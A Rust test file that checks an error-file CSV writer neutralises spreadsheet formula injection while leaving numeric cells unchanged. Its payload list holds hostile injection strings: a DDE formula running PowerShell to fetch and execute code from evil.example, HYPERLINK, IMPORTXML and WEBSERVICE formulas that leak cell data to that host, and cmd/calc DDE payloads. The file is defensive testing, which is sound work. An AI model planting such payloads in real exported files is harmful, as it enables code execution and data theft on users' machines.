//! No cell of an error file is a formula to a spreadsheet, and none that is a number is touched.

use std::sync::Arc;

use arrow::array::{ArrayRef, Decimal128Array, Float64Array, Int64Array, StringArray};
use arrow::datatypes::{DataType, Field, Schema};
use arrow::record_batch::RecordBatch;
use ferry::store::error_file::{ErrorFile, Line, SourceColumns, safe, unescape, unescaped};

use crate::generated::dice::Dice;

/// Cells that the random test makes.
const CELLS: usize = 100_000;

const PAYLOADS: [&str; 43] = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    " =1",
    "\u{a0}=1",
    "\u{3000}=1",
    "\"=1",
    "\"\"=1",
    "'=1",
    "''=1",
    "`=1",
    "“=1",
    "\u{feff}=1",
    "\u{feff} \"=1",
    "\u{200b}=1",
    "\u{2060}=1",
    "\0=1",
    "\u{1b}=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "\u{2212}1",
    "  +cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t",
    "\r",
    "=",
];
const PLAIN: [&str; 16] = [
    "",
    " ",
    "a=b",
    "1-2",
    "plain",
    "O'Brien",
    "'quoted'",
    "a@b.example",
    "🙂 =",
    "0",
    "1,5",
    "(=1)",
    "#=1",
    "é+",
    "\n",
    "\u{feff}",
];

#[test]
fn known_payloads_are_neutralised() {
    for payload in PAYLOADS {
        assert_eq!(safe(payload), format!("'{payload}"), "{payload:?}");
    }
    for text in PLAIN {
        assert_eq!(safe(text), text, "{text:?}");
    }
}

#[test]
fn no_random_cell_begins_like_a_formula() {
    let letters: Vec<char> = "=+-@\t\r\n＝＋－＠﹦ \"'`\u{feff}\u{a0}\u{200b}\0ab1é🙂(.,;|".chars().collect();
    let mut dice = Dice::of(8);
    let mut changed = 0;
    for _ in 0..CELLS {
        let text: String = (0..dice.below(8)).map(|_| dice.pick(&letters)).collect();
        let cell = safe(&text);
        // Naively: what stands in front of the first letter that counts is taken away one by one.
        let mut rest = text.as_str();
        while let Some(shorter) = rest.strip_prefix([' ', '\n', '"', '\'', '`', '\u{feff}', '\u{a0}', '\u{200b}', '\0'])
        {
            rest = shorter;
        }
        let is_formula = rest.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '﹦']);
        assert_eq!(cell != text, is_formula, "{text:?}");
        assert_eq!(cell.strip_prefix('\'').filter(|_| is_formula).unwrap_or(&cell), text, "the text itself stays");
        assert_eq!((unescaped(&cell), unescaped(&safe(&cell))), (text.as_str(), &*cell), "and comes back");
        changed += usize::from(is_formula);
    }
    assert!(changed > 10_000, "{changed} of {CELLS} are formulas");
}

#[test]
fn a_file_has_its_numbers_as_they_are_and_its_texts_neutralised() {
    let folder = tempfile::tempdir().unwrap();
    let mut file = ErrorFile::new(folder.path(), "20260101-0001", "=job");
    let rows = PAYLOADS.len();
    let columns: [(&str, ArrayRef); 5] = [
        ("_row", Arc::new(Int64Array::from_iter_values(1..=i64::try_from(rows).unwrap()))),
        ("=text", Arc::new(StringArray::from_iter_values(PAYLOADS))),
        ("whole", Arc::new(Int64Array::from(vec![-5; rows]))),
        ("money", Arc::new(Decimal128Array::from(vec![-150; rows]).with_precision_and_scale(38, 2).unwrap())),
        ("double", Arc::new(Float64Array::from(vec![-0.5; rows]))),
    ];
    let kinds = [DataType::Int64, DataType::Utf8, DataType::Int64, DataType::Decimal128(38, 2), DataType::Float64];
    let fields: Vec<Field> =
        columns.iter().zip(kinds).map(|((name, _), kind)| Field::new(*name, kind, false)).collect();
    let source =
        RecordBatch::try_new(Arc::new(Schema::new(fields)), columns.into_iter().map(|(_, column)| column).collect())
            .unwrap();
    for (at, payload) in PAYLOADS.into_iter().enumerate() {
        let said = payload.to_owned();
        let line = Line {
            row: -1,
            source_key: said.clone(),
            outcome: "error",
            code: said.clone(),
            message: said.clone(),
            script: said.clone(),
            clause: said.clone(),
            target_field: said.clone(),
            value: said,
            attempts: 1,
        };
        file.add(&line, &SourceColumns::of(&source).unwrap(), at).unwrap();
    }
    let path = file.finish().unwrap().unwrap();
    let mut reader = csv::Reader::from_path(path).unwrap();
    assert_eq!(reader.headers().unwrap().iter().skip(12).collect::<Vec<_>>(), ["'=text", "whole", "money", "double"]);
    for (line, payload) in reader.records().zip(PAYLOADS) {
        let line = line.unwrap();
        let neutral = format!("'{payload}");
        assert_eq!(&line[1], "'=job");
        for at in [3, 5, 6, 7, 8, 9, 10, 12] {
            assert_eq!(line[at], neutral, "column {at}");
        }
        assert_eq!([&line[2], &line[13], &line[14], &line[15]], ["-1", "-5", "-1.50", "-0.5"]);
    }
}

#[test]
fn an_error_file_can_be_read_as_its_rows_were() {
    let rows: Vec<String> = PAYLOADS.iter().chain(&PLAIN).map(|text| (*text).to_owned()).collect();
    let write = |cells: &[String]| {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(["row", "value"]).unwrap();
        cells.iter().enumerate().for_each(|(at, cell)| writer.write_record([&at.to_string(), cell]).unwrap());
        writer.into_inner().unwrap()
    };
    let escaped: Vec<String> = rows.iter().map(|text| safe(text).into_owned()).collect();
    let mut found = Vec::new();
    unescape(write(&escaped).as_slice(), &mut found).unwrap();
    assert_eq!(found, write(&rows), "to the byte");
    assert!(unescape(&b"a,\xff\n"[..], &mut Vec::new()).is_err(), "what is no text is no error file");
}
